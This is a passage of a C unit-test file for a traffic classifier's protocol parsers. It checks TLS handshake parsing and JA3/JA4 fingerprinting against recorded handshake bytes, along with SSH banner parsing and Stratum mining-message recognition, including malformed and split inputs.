	0xfb, 0x0b, 0x50, 0xcb, 0x35, 0x77, 0xf8, 0xb8, 0x98, 0x1c, 0xd8, 0x29,
	0xe3, 0x3c, 0xe8, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7,
	0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00, 0x30, 0x5a, 0x31, 0x0b, 0x30, 0x09,
	0x06, 0x03, 0x55, 0x04, 0x06, 0x13, 0x02, 0x55, 0x53, 0x31, 0x13, 0x30,
	0x11, 0x06, 0x03, 0x55, 0x04, 0x08, 0x0c, 0x0a, 0x43, 0x61, 0x6c, 0x69,
	0x66, 0x6f, 0x72, 0x6e, 0x69, 0x61, 0x31, 0x19, 0x30, 0x17, 0x06, 0x03,
	0x55, 0x04, 0x0a, 0x0c, 0x10, 0x56, 0x69, 0x67, 0x69, 0x6c, 0x20, 0x54,
	0x65, 0x73, 0x74, 0x2c, 0x20, 0x49, 0x6e, 0x63, 0x2e, 0x31, 0x1b, 0x30,
	0x19, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x12, 0x74, 0x65, 0x73, 0x74,
	0x2e, 0x76, 0x69, 0x67, 0x69, 0x6c, 0x2e, 0x65, 0x78, 0x61, 0x6d, 0x70,
	0x6c, 0x65, 0x30, 0x1e, 0x17, 0x0d, 0x32, 0x36, 0x31, 0x31, 0x32, 0x38,
	0x31, 0x36, 0x32, 0x39, 0x31, 0x33, 0x5a, 0x17, 0x0d, 0x33, 0x36, 0x31,
	0x31, 0x32, 0x35, 0x31, 0x36, 0x32, 0x39, 0x31, 0x33, 0x5a, 0x30, 0x5a,
	0x31, 0x0b, 0x30, 0x09, 0x06, 0x03, 0x55, 0x04, 0x06, 0x13, 0x02, 0x55,
	0x53, 0x31, 0x13, 0x30, 0x11, 0x06, 0x03, 0x55, 0x04, 0x08, 0x0c, 0x0a,
	0x43, 0x61, 0x6c, 0x69, 0x66, 0x6f, 0x72, 0x6e, 0x69, 0x61, 0x31, 0x19,
	0x30, 0x17, 0x06, 0x03, 0x55, 0x04, 0x0a, 0x0c, 0x10, 0x56, 0x69, 0x67,
	0x69, 0x6c, 0x20, 0x54, 0x65, 0x73, 0x74, 0x2c, 0x20, 0x49, 0x6e, 0x63,
	0x2e, 0x31, 0x1b, 0x30, 0x19, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x12,
	0x74, 0x65, 0x73, 0x74, 0x2e, 0x76, 0x69, 0x67, 0x69, 0x6c, 0x2e, 0x65,
	0x78, 0x61, 0x6d, 0x70, 0x6c, 0x65, 0x30, 0x82, 0x01, 0x22, 0x30, 0x0d,
	0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05,
	0x00, 0x03, 0x82, 0x01, 0x0f, 0x00, 0x30, 0x82, 0x01, 0x0a, 0x02, 0x82,
	0x01, 0x01, 0x00, 0xb6, 0x70, 0xc0, 0xdb, 0xc7, 0xc2, 0xb3, 0x0f, 0x89,
	0x51, 0x53, 0x5f, 0x43, 0xf6, 0xbc, 0xaa, 0x9e, 0xe0, 0xb8, 0xc0, 0x46,
	0x59, 0x8a, 0x55, 0xa8, 0x6b, 0x87, 0x3e, 0x73, 0x1c, 0xaf, 0x63, 0x7d,
	0x7f, 0x39, 0x7b, 0xc8, 0x06, 0xfd, 0xa3, 0x30, 0x1a, 0x81, 0xa5, 0xf4,
	0x24, 0x22, 0x8b, 0xff, 0x89, 0xb5, 0x24, 0x5a, 0xcb, 0xf9, 0x19, 0x4c,
	0xcd, 0x81, 0x10, 0x9f, 0x00, 0xd7, 0xa1, 0xa7, 0xa0, 0x8f, 0x8e, 0x9b,
	0x8c, 0x4d, 0x58, 0x11, 0xd7, 0x90, 0x85, 0xcb, 0x4d, 0xcd, 0x25, 0xf1,
	0x12, 0xfc, 0x80, 0x78, 0x09, 0x2f, 0x09, 0x84, 0x83, 0xb9, 0x3b, 0x7f,
	0xc1, 0x07, 0x09, 0xde, 0x75, 0xd1, 0xd9, 0x7e, 0xe5, 0xba, 0x72, 0xd8,
	0xfe, 0x75, 0x5f, 0x17, 0x59, 0xeb, 0x86, 0xfe, 0xca, 0xd4, 0xba, 0xf8,
	0x43, 0x6f, 0x3e, 0x6c, 0x5a, 0xf7, 0xc5, 0x8f, 0x33, 0x23, 0xac, 0xa9,
	0xe9, 0xd9, 0xc4, 0x2e, 0x31, 0xc6, 0x70, 0x9c, 0x9c, 0xbc, 0xb5, 0x94,
	0x51, 0x22, 0x13, 0xb0, 0xad, 0xa6, 0xac, 0x40, 0xbe, 0x08, 0xe6, 0x42,
	0x92, 0x55, 0x04, 0x91, 0xa8, 0xc9, 0x16, 0x27, 0xb1, 0x46, 0xb9, 0xad,
	0x7f, 0x8e, 0x84, 0xe9, 0x46, 0x8f, 0x9d, 0x35, 0x3c, 0x09, 0x36, 0xc8,
	0x2a, 0xe5, 0x6d, 0xc1, 0x1f, 0xcb, 0x79, 0x65, 0xc1, 0x15, 0x7d, 0xb2,
	0x9f, 0x88, 0x74, 0x46, 0x8e, 0xba, 0xc6, 0x8a, 0xc6, 0x6a, 0xff, 0xbd,
	0x16, 0xbe, 0xd6, 0x1f, 0x78, 0x5a, 0x38, 0xad, 0x13, 0xbb, 0xb1, 0x0c,
	0xa2, 0xce, 0x4d, 0x40, 0x63, 0x96, 0x40, 0xd4, 0x14, 0x9d, 0x2c, 0x72,
	0x02, 0x8f, 0x3e, 0x5b, 0x9b, 0x49, 0x2c, 0x8a, 0xa7, 0xde, 0xfa, 0xec,
	0xcc, 0xae, 0x3a, 0x9b, 0x2a, 0x16, 0x67, 0x7c, 0x3d, 0x14, 0x7f, 0x4a,
	0x9a, 0x42, 0xdc, 0x73, 0x60, 0x8d, 0xe9, 0x02, 0x03, 0x01, 0x00, 0x01,
	0xa3, 0x53, 0x30, 0x51, 0x30, 0x1d, 0x06, 0x03, 0x55, 0x1d, 0x0e, 0x04,
	0x16, 0x04, 0x14, 0x66, 0xd5, 0xf8, 0xb5, 0x2b, 0x27, 0x49, 0xb2, 0x12,
	0x61, 0x18, 0xa7, 0x21, 0x2f, 0xdd, 0x34, 0x17, 0x5f, 0xc0, 0xa4, 0x30,
	0x1f, 0x06, 0x03, 0x55, 0x1d, 0x23, 0x04, 0x18, 0x30, 0x16, 0x80, 0x14,
	0x66, 0xd5, 0xf8, 0xb5, 0x2b, 0x27, 0x49, 0xb2, 0x12, 0x61, 0x18, 0xa7,
	0x21, 0x2f, 0xdd, 0x34, 0x17, 0x5f, 0xc0, 0xa4, 0x30, 0x0f, 0x06, 0x03,
	0x55, 0x1d, 0x13, 0x01, 0x01, 0xff, 0x04, 0x05, 0x30, 0x03, 0x01, 0x01,
	0xff, 0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01,
	0x01, 0x0b, 0x05, 0x00, 0x03, 0x82, 0x01, 0x01, 0x00, 0xa7, 0xef, 0x82,
	0x35, 0xd2, 0x79, 0xc3, 0xf6, 0x9b, 0xf6, 0xc2, 0x9d, 0x20, 0x21, 0x3f,
	0xc0, 0x0d, 0x47, 0x86, 0xb5, 0x7c, 0x3f, 0xdb, 0x7f, 0x2e, 0xd7, 0x71,
	0xdb, 0x9f, 0xc4, 0xa6, 0xb7, 0x2e, 0x5e, 0x40, 0x9e, 0xdd, 0x26, 0xe5,
	0x17, 0x07, 0xae, 0x70, 0x59, 0x8f, 0xfd, 0xfd, 0x30, 0xe0, 0x08, 0x15,
	0x7c, 0xab, 0xa4, 0xb2, 0x54, 0xbc, 0x42, 0x80, 0x9c, 0x72, 0x2d, 0x0d,
	0xfb, 0xc4, 0x59, 0x24, 0x00, 0x31, 0x6c, 0x06, 0xe4, 0xff, 0x90, 0x39,
	0x56, 0xef, 0x3f, 0xdb, 0x2a, 0x2c, 0x7b, 0x94, 0x19, 0x9d, 0xfc, 0x1a,
	0x70, 0x11, 0xc0, 0xdf, 0x7c, 0xe4, 0x2b, 0xc6, 0x7d, 0x20, 0xa8, 0x7e,
	0xf1, 0x8c, 0x9b, 0x35, 0x9e, 0xd5, 0x99, 0xbb, 0xab, 0x5a, 0x56, 0xb9,
	0x0b, 0x53, 0x54, 0x5b, 0xfb, 0x17, 0x90, 0x1a, 0xe2, 0xdc, 0x79, 0xa6,
	0x9e, 0xe9, 0x5a, 0x5a, 0xb6, 0x32, 0xe1, 0xdb, 0x03, 0x7c, 0xb5, 0x34,
	0x11, 0xa5, 0x14, 0xe0, 0xe8, 0x6f, 0x45, 0x52, 0x07, 0x1f, 0xdf, 0xb8,
	0xa3, 0x0c, 0xb3, 0x8d, 0x6d, 0x0d, 0x4e, 0x0d, 0x29, 0xa4, 0x7b, 0x1f,
	0xd7, 0x05, 0x79, 0xd5, 0x23, 0xa8, 0xb6, 0x04, 0x8f, 0xc7, 0x2e, 0x4f,
	0xb2, 0x85, 0x47, 0x83, 0xc1, 0x23, 0x9c, 0x38, 0x4b, 0x57, 0x72, 0x02,
	0x88, 0x9a, 0x2a, 0xd2, 0xb2, 0x16, 0x2c, 0x61, 0x20, 0x22, 0xde, 0x5b,
	0xe5, 0xa4, 0xf2, 0xb7, 0xd8, 0xf2, 0x18, 0x73, 0x3d, 0xa3, 0x8e, 0xc0,
	0x5c, 0x96, 0xb9, 0x86, 0x77, 0x8d, 0x89, 0x82, 0x8b, 0x37, 0x25, 0x35,
	0xa9, 0x40, 0x46, 0x5b, 0x9c, 0xa2, 0x33, 0x68, 0x8a, 0x72, 0xfd, 0x29,
	0x69, 0x12, 0x49, 0x71, 0x93, 0xd1, 0x8a, 0x3f, 0x15, 0x67, 0x6a, 0xfe,
	0xdb, 0xce, 0x3a, 0x2e, 0x0f, 0xbd, 0x0c, 0xe8, 0xc7, 0x84, 0x4d, 0xd1,
	0x34, 0x16, 0x03, 0x03, 0x01, 0x2c, 0x0c, 0x00, 0x01, 0x28, 0x03, 0x00,
	0x1d, 0x20, 0x2d, 0x54, 0x43, 0xed, 0xf2, 0x6c, 0xb4, 0x7e, 0x0b, 0xf9,
	0xfa, 0xd9, 0xe0, 0x3c, 0x57, 0x9a, 0x64, 0x89, 0x81, 0x91, 0x29, 0x81,
	0x39, 0x04, 0xbf, 0x0c, 0x32, 0x43, 0x13, 0x63, 0x8c, 0x03, 0x08, 0x04,
	0x01, 0x00, 0xb0, 0x45, 0x7f, 0xb9, 0x0b, 0x1e, 0x1c, 0xda, 0x86, 0x23,
	0x08, 0x8b, 0x12, 0x27, 0xaf, 0x35, 0x0b, 0x6c, 0x1c, 0x56, 0xc1, 0xf9,
	0xd2, 0xf5, 0x39, 0x2a, 0x08, 0x76, 0x7c, 0xc8, 0x3e, 0xc6, 0xd0, 0xfc,
	0x39, 0x0d, 0x75, 0x98, 0x60, 0x13, 0x14, 0xe9, 0xe0, 0x1b, 0x96, 0xa0,
	0x19, 0x30, 0xad, 0x3c, 0x51, 0x3f, 0x8c, 0xd6, 0xc5, 0xb1, 0xa3, 0x1e,
	0xb6, 0x16, 0x99, 0x69, 0x3f, 0x27, 0x7d, 0x9b, 0xe4, 0x1d, 0xc1, 0xcb,
	0xad, 0xde, 0x42, 0xd8, 0x3e, 0xf0, 0xc9, 0xbd, 0x1e, 0xeb, 0x9a, 0x0c,
	0xe2, 0x51, 0x20, 0x27, 0x3a, 0x97, 0x23, 0x4a, 0x4f, 0x9f, 0x92, 0xcd,
	0x38, 0xc0, 0x57, 0x60, 0x25, 0xc8, 0xe1, 0x5a, 0xcd, 0xab, 0x37, 0x8c,
	0x50, 0x89, 0xfb, 0x6c, 0x03, 0x6c, 0xe0, 0xae, 0x93, 0x94, 0x72, 0x1b,
	0xbd, 0x52, 0xeb, 0x72, 0xb0, 0xb9, 0xef, 0xe9, 0x86, 0x5e, 0x28, 0x68,
	0xd5, 0x8d, 0xd9, 0x4f, 0xba, 0xdf, 0x46, 0xd8, 0x33, 0x26, 0x64, 0x2c,
	0xaf, 0xc2, 0x8e, 0x3e, 0xca, 0x51, 0x84, 0x7d, 0x63, 0x3c, 0x7c, 0x57,
	0x49, 0x6f, 0xf5, 0x6d, 0x38, 0xdf, 0xcd, 0xc1, 0xcc, 0x45, 0x10, 0x25,
	0xf3, 0xeb, 0x0f, 0xa3, 0x6d, 0xa9, 0xe5, 0x14, 0xc6, 0x8d, 0x81, 0xc6,
	0xca, 0x4b, 0x13, 0x2a, 0x1f, 0x3c, 0x60, 0xf2, 0x96, 0x6d, 0xd1, 0xe1,
	0x2e, 0xbc, 0xc5, 0x95, 0x9b, 0x25, 0xf2, 0x21, 0xe0, 0xff, 0x63, 0x1d,
	0xd1, 0x0c, 0x17, 0xa3, 0x07, 0x15, 0x9b, 0x48, 0xc3, 0xd9, 0x81, 0x10,
	0xf3, 0xbe, 0x22, 0x10, 0x97, 0x99, 0x15, 0x82, 0xcc, 0x8b, 0xad, 0x65,
	0xe1, 0x10, 0x87, 0x1a, 0x94, 0x80, 0x3e, 0x2e, 0x2c, 0xa0, 0x52, 0xff,
	0xb1, 0x86, 0x26, 0x97, 0x59, 0x85, 0x85, 0x4e, 0x4f, 0xa8, 0x31, 0xd1,
	0x5b, 0x69, 0xf8, 0x6c, 0x8d, 0x72, 0x16, 0x03, 0x03, 0x00, 0x04, 0x0e,
	0x00, 0x00, 0x00,
};
/* A TLS 1.3 server (s_server -alpn h2): ServerHello and ChangeCipherSpec. */
static const uint8_t tls13_server_flight[133] = {
	0x16, 0x03, 0x03, 0x00, 0x7a, 0x02, 0x00, 0x00, 0x76, 0x03, 0x03, 0xa7,
	0x53, 0x2f, 0x37, 0x2a, 0x7f, 0xe1, 0x30, 0xb9, 0x25, 0xbb, 0xb2, 0x2d,
	0xc5, 0x1b, 0x43, 0xd8, 0xaa, 0x49, 0x84, 0xae, 0x0f, 0x08, 0x00, 0xeb,
	0x07, 0x02, 0xcf, 0x1d, 0xd2, 0xd5, 0x12, 0x20, 0x21, 0x28, 0x65, 0x5e,
	0xa3, 0xaa, 0xf1, 0xe7, 0x3b, 0x05, 0x32, 0xc5, 0xc7, 0xf7, 0xff, 0x73,
	0xd3, 0x6c, 0x10, 0xb8, 0x4e, 0x17, 0x58, 0x9c, 0xee, 0x28, 0x84, 0x71,
	0x8a, 0xfd, 0x7c, 0xa4, 0x13, 0x02, 0x00, 0x00, 0x2e, 0x00, 0x2b, 0x00,
	0x02, 0x03, 0x04, 0x00, 0x33, 0x00, 0x24, 0x00, 0x1d, 0x00, 0x20, 0xf4,
	0x38, 0x36, 0x91, 0x02, 0x87, 0x5e, 0xd7, 0xbf, 0xd8, 0xc3, 0x05, 0xff,
	0xcc, 0x34, 0x37, 0xc9, 0xaf, 0xc6, 0x9d, 0xda, 0x9d, 0x31, 0x72, 0xbd,
	0xf7, 0xf1, 0xbc, 0x75, 0xba, 0x6b, 0x09, 0x14, 0x03, 0x03, 0x00, 0x01,
	0x01,
};

static void
test_tls_openssl_hello(void **state)
{
	struct vigil_tls_client_hello h;
	struct vigil_l7_ret r;

	(void)state;
	r = vigil_tls_parse_client(cr, tls12_client_hello,
				   sizeof(tls12_client_hello), &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, sizeof(tls12_client_hello));
	STR_EQ(h.server_name, "www.vigil.example");
	STR_EQ(h.alpn[0], "http/1.1");
	assert_int_equal(h.record_version, 0x0301);
	assert_int_equal(h.legacy_version, 0x0303);
	assert_int_equal(h.max_version, 0x0304);
	/* tshark: tls.handshake.ja3 */
	assert_string_equal(h.ja3, "5a1edc7f170af1014fc65c994878e63c");
	assert_string_equal(h.ja4, "t13d3111h1_e8f1e7e78f70_1f22a2ca17c4");
	assert_int_equal(vigil_l7_guess(tls12_client_hello,
					sizeof(tls12_client_hello), true, 6,
					50000, 8443),
			 VIGIL_L7_TLS);
}

/*
 * The fingerprint memo: a repeated ClientHello gives the same JA3 and JA4
 * from the memo; one that differs in a cipher's order or in a signature
 * algorithm gives what a fresh context computes; a different server name
 * (not a fingerprint input) shares the fingerprints.
 */
static void
test_tls_fingerprint_memo(void **state)
{
	struct vigil_l7_crypto *fresh = vigil_l7_crypto_create();
	struct vigil_tls_client_hello h1, h2, want;
	uint8_t m[sizeof(tls12_client_hello)];
	struct vigil_l7_ret r;
	uint64_t hits;

	(void)state;
	assert_non_null(fresh);
	r = vigil_tls_parse_client(cr, tls12_client_hello,
				   sizeof(tls12_client_hello), &h1);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	hits = vigil_tls_memo_hits(cr);
	r = vigil_tls_parse_client(cr, tls12_client_hello,
				   sizeof(tls12_client_hello), &h2);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(vigil_tls_memo_hits(cr), hits + 1);
	assert_string_equal(h2.ja3, "5a1edc7f170af1014fc65c994878e63c");
	assert_string_equal(h2.ja4, "t13d3111h1_e8f1e7e78f70_1f22a2ca17c4");
	/* Two ciphers swapped (offsets 78..81: 0x1302, 0x1303): JA3 changes,
	 * JA4's sorted list does not. */
	memcpy(m, tls12_client_hello, sizeof(m));
	assert_int_equal(m[78], 0x13);
	assert_int_equal(m[79], 0x02);
	assert_int_equal(m[81], 0x03);
	m[79] = 0x03, m[81] = 0x02;
	r = vigil_tls_parse_client(cr, m, sizeof(m), &h2);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(vigil_tls_memo_hits(cr), hits + 1); /* a miss */
	r = vigil_tls_parse_client(fresh, m, sizeof(m), &want);
	assert_int_equal(vigil_tls_memo_hits(fresh), 0);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_string_equal(h2.ja3, want.ja3);
	assert_string_not_equal(h2.ja3, h1.ja3);
	assert_string_equal(h2.ja4, want.ja4);
	assert_string_equal(h2.ja4, h1.ja4);
	/* A server name one letter different: same fingerprints. */
	memcpy(m, tls12_client_hello, sizeof(m));
	for (unsigned i = 0; i + 5 < sizeof(m); i++)
		if (memcmp(m + i, "vigil", 5) == 0) {
			m[i] = 'w';
			break;
		}
	r = vigil_tls_parse_client(cr, m, sizeof(m), &h2);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(h2.server_name, "www.wigil.example");
	assert_int_equal(vigil_tls_memo_hits(cr), hits + 2);
	assert_string_equal(h2.ja3, h1.ja3);
	assert_string_equal(h2.ja4, h1.ja4);
	vigil_l7_crypto_free(fresh);
}

/* The ClientHello over two TCP segments: the first says how much the
 * whole takes, the concatenation parses. */
static void
test_tls_split_hello(void **state)
{
	struct vigil_tls_client_hello h;
	struct vigil_l7_ret r;
	uint8_t buf[sizeof(tls12_client_hello)];
	const uint32_t cut[] = { 1, 3, 5, 8, 9, 100, 337 };

	(void)state;
	for (size_t i = 0; i < sizeof(cut) / sizeof(cut[0]); i++) {
		r = vigil_tls_parse_client(cr, tls12_client_hello, cut[i], &h);
		assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
		if (cut[i] >= 9)
			assert_int_equal(r.len, sizeof(tls12_client_hello));
		else
			assert_true(r.len > cut[i]);
	}
	memcpy(buf, tls12_client_hello, 200);
	memcpy(buf + 200, tls12_client_hello + 200,
	       sizeof(tls12_client_hello) - 200);
	r = vigil_tls_parse_client(cr, buf, sizeof(buf), &h);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(h.server_name, "www.vigil.example");
}

static void
test_tls_server(void **state)
{
	struct vigil_tls_server_hello s;
	struct vigil_l7_ret r;
	char b[8];

	(void)state;
	r = vigil_tls_parse_server(cr, tls12_server_flight,
				   sizeof(tls12_server_flight), &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(s.has_server_hello);
	assert_int_equal(s.version, 0x0303);
	assert_string_equal(vigil_tls_version_name(s.version), "TLSv12");
	assert_int_equal(s.cipher, 0xc030);
	assert_string_equal(vigil_tls_cipher_name(s.cipher),
			    "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384");
	STR_EQ(s.alpn, "http/1.1");
	assert_string_equal(s.ja3s, "895252f3ce80cebf7a8837be83ec8e16");
	assert_true(s.has_cert);
	STR_EQ(s.subject,
	       "CN=test.vigil.example,O=Vigil Test\\, Inc.,ST=California,C=US");
	STR_EQ(s.issuer,
	       "CN=test.vigil.example,O=Vigil Test\\, Inc.,ST=California,C=US");
	assert_int_equal(vigil_l7_guess(tls12_server_flight, 20, false, 6,
					4433, 50000),
			 VIGIL_L7_TLS);

	/* The same flight arriving: ServerHello first, then the cut
	 * Certificate record already gives the names. */
	r = vigil_tls_parse_server(cr, tls12_server_flight, 50, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_tls_parse_server(cr, tls12_server_flight, 700, &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(s.has_cert);

	r = vigil_tls_parse_server(cr, tls13_server_flight,
				   sizeof(tls13_server_flight), &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(s.version, 0x0304);
	assert_int_equal(s.cipher, 0x1302);
	assert_string_equal(s.ja3s, "15af977ce25de452b96affa2addb1036");
	assert_false(s.has_cert);
	(void)b;

	/* A TLS 1.3 draft-18 ServerHello: no session id, no compression */
	{
		struct mb m;
		m.n = 0;
		put8(&m, 0x16);
		put16(&m, 0x0303);
		put16(&m, 4 + 2 + 32 + 2 + 2);
		put8(&m, 2);
		put8(&m, 0);
		put16(&m, 2 + 32 + 2 + 2);
		put16(&m, 0x7f12);
		for (int i = 0; i < 32; i++)
			put8(&m, 7);
		put16(&m, 0x1301);
		put16(&m, 0);
		r = vigil_tls_parse_server(cr, m.b, (uint32_t)m.n, &s);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
		assert_int_equal(s.version, 0x7f12);
		assert_int_equal(s.cipher, 0x1301);
	}
}

/* A warning alert (unrecognized_name) before the ServerHello, as in nDPI's
 * http_ipv6.pcap: passed over, the ServerHello after it is read. */
static void
test_tls_server_after_alert(void **state)
{
	static const uint8_t alert[] = { 0x15, 0x03, 0x03, 0x00, 0x02,
					 0x01, 0x70 };
	static const uint8_t ccs[] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
	static uint8_t buf[sizeof(alert) + sizeof(ccs) +
			   sizeof(tls12_server_flight)];
	struct vigil_tls_server_hello s;
	struct vigil_l7_ret r;
	uint32_t n = 0;

	(void)state;
	memcpy(buf, alert, sizeof(alert));
	n += sizeof(alert);
	memcpy(buf + n, tls12_server_flight, sizeof(tls12_server_flight));
	r = vigil_tls_parse_server(cr, buf, n + sizeof(tls12_server_flight),
				   &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(s.has_server_hello);
	assert_int_equal(s.version, 0x0303);
	assert_string_equal(s.ja3s, "895252f3ce80cebf7a8837be83ec8e16");
	assert_true(s.has_cert);
	/* arriving in pieces: within the alert, just after it, within the
	 * ServerHello */
	r = vigil_tls_parse_server(cr, buf, 3, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_tls_parse_server(cr, buf, 6, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_tls_parse_server(cr, buf, n, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_tls_parse_server(cr, buf, n + 40, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	/* a change_cipher_spec and the alert before it: passed over too */
	memcpy(buf, ccs, sizeof(ccs));
	memcpy(buf + sizeof(ccs), alert, sizeof(alert));
	n = sizeof(ccs) + sizeof(alert);
	memcpy(buf + n, tls12_server_flight, sizeof(tls12_server_flight));
	r = vigil_tls_parse_server(cr, buf, n + sizeof(tls12_server_flight),
				   &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_string_equal(s.ja3s, "895252f3ce80cebf7a8837be83ec8e16");
	/* an alert and then no TLS: malformed, not a ServerHello */
	memcpy(buf, alert, sizeof(alert));
	memcpy(buf + sizeof(alert), "HTTP/1.1 200 OK\r\n", 17);
	r = vigil_tls_parse_server(cr, buf, sizeof(alert) + 17, &s);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_false(s.has_server_hello);
	/* an alert with a bad record version is not TLS at all */
	buf[1] = 0x07;
	r = vigil_tls_parse_server(cr, buf, sizeof(alert) + 17, &s);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
}

static void
test_tls_bad(void **state)
{
	struct mb m;
	struct vigil_tls_client_hello h;
	struct vigil_l7_ret r;
	static const uint8_t http[] = "GET / HTTP/1.1\r\n\r\n";

	(void)state;
	r = vigil_tls_parse_client(cr, http, sizeof(http) - 1, &h);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	/* an extension length past its block */
	build_hello(&m, "h2", true);
	m.b[m.n - 1] = 5; /* extended_master_secret: length 5 */
	r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_TLS_BAD_EXTENSION);
	/* a handshake longer than its record: fragmented */
	build_hello(&m, "h2", true);
	m.b[3] = 0;
	m.b[4] = 50;
	r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_TLS_FRAGMENTED_HELLO);
	/* a ServerHello where a ClientHello should be */
	r = vigil_tls_parse_client(cr, tls12_server_flight, 100, &h);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
}

/* --- SSH --------------------------------------------------------------- */

static void
test_ssh(void **state)
{
	static const char cli[] = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
				  "\x00\x00\x05\xdc";
	static const char srv[] = "Welcome to the box\r\n"
				  "SSH-1.99-Cisco-1.25\n";
	static const char old[] = "SSH-1.5-OldThing\n";
	static const char bad[] = "SSH-x-y\r\n";
	struct vigil_ssh_banner b;
	struct vigil_l7_ret r;
	uint8_t longb[400];

	(void)state;
	r = vigil_ssh_parse_banner((const uint8_t *)cli, sizeof(cli) - 1, true,
				   &b);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, 40);
	STR_EQ(b.banner, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3");
	STR_EQ(b.proto, "2.0");
	STR_EQ(b.software, "OpenSSH_9.2p1");
	assert_int_equal(b.version, 2);
	assert_int_equal(vigil_l7_guess((const uint8_t *)cli, 4, true, 6, 1, 2),
			 VIGIL_L7_SSH);

	r = vigil_ssh_parse_banner((const uint8_t *)srv, sizeof(srv) - 1,
				   false, &b);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(b.banner, "SSH-1.99-Cisco-1.25");
	assert_int_equal(b.version, 2);
	r = vigil_ssh_parse_banner((const uint8_t *)srv, sizeof(srv) - 1, true,
				   &b);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	r = vigil_ssh_parse_banner((const uint8_t *)old, sizeof(old) - 1,
				   false, &b);
	assert_int_equal(b.version, 1);

	r = vigil_ssh_parse_banner((const uint8_t *)cli, 20, true, &b);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_ssh_parse_banner((const uint8_t *)bad, sizeof(bad) - 1, true,
				   &b);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_SSH_BAD_BANNER);
	memset(longb, 'a', sizeof(longb));
	memcpy(longb, "SSH-2.0-", 8);
	r = vigil_ssh_parse_banner(longb, sizeof(longb), true, &b);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_SSH_BANNER_TOO_LONG);
}

/* --- Stratum ----------------------------------------------------------- */

static void
test_stratum(void **state)
{
	static const char sub[] =
		"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": "
		"[\"cgminer/4.10.0\"]}\n";
	static const char auth[] =
		"{\"params\": [\"wallet.rig1\", \"x\"], \"id\": 2, "
		"\"method\": \"mining.authorize\"}\n";
	static const char submit[] =
		"{\"id\":4,\"method\":\"mining.submit\",\"params\":"
		"[\"wallet.rig1\",\"1f2e\",\"00000000\",\"5e8f3c2a\","
		"\"a1b2c3d4\"]}\n";
	static const char resp[] =
		"{\"id\":1,\"result\":[[[\"mining.set_difficulty\",\"1\"],"
		"[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"]],"
		"\"08000002\",4],\"error\":null}\n";
	static const char err[] =
		"{\"id\":2,\"result\":null,\"error\":[24,\"Unauthorized\",null]}"
		"\n";
	struct vigil_stratum_msg s;
	struct vigil_l7_ret r;

	(void)state;
	r = vigil_stratum_parse((const uint8_t *)sub, sizeof(sub) - 1, &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, sizeof(sub) - 1);
	STR_EQ(s.method, "mining.subscribe");
	STR_EQ(s.id, "1");
	assert_int_equal(s.n_params, 1);
	STR_EQ(s.params[0], "cgminer/4.10.0");
	assert_false(s.is_response);
	assert_int_equal(vigil_l7_guess((const uint8_t *)sub, sizeof(sub) - 1,
					true, 6, 50000, 443),
			 VIGIL_L7_STRATUM);

	r = vigil_stratum_parse((const uint8_t *)auth, sizeof(auth) - 1, &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(s.method, "mining.authorize");
	STR_EQ(s.params[0], "wallet.rig1");
	STR_EQ(s.params[1], "x");
	STR_EQ(s.id, "2");

	r = vigil_stratum_parse((const uint8_t *)submit, sizeof(submit) - 1,
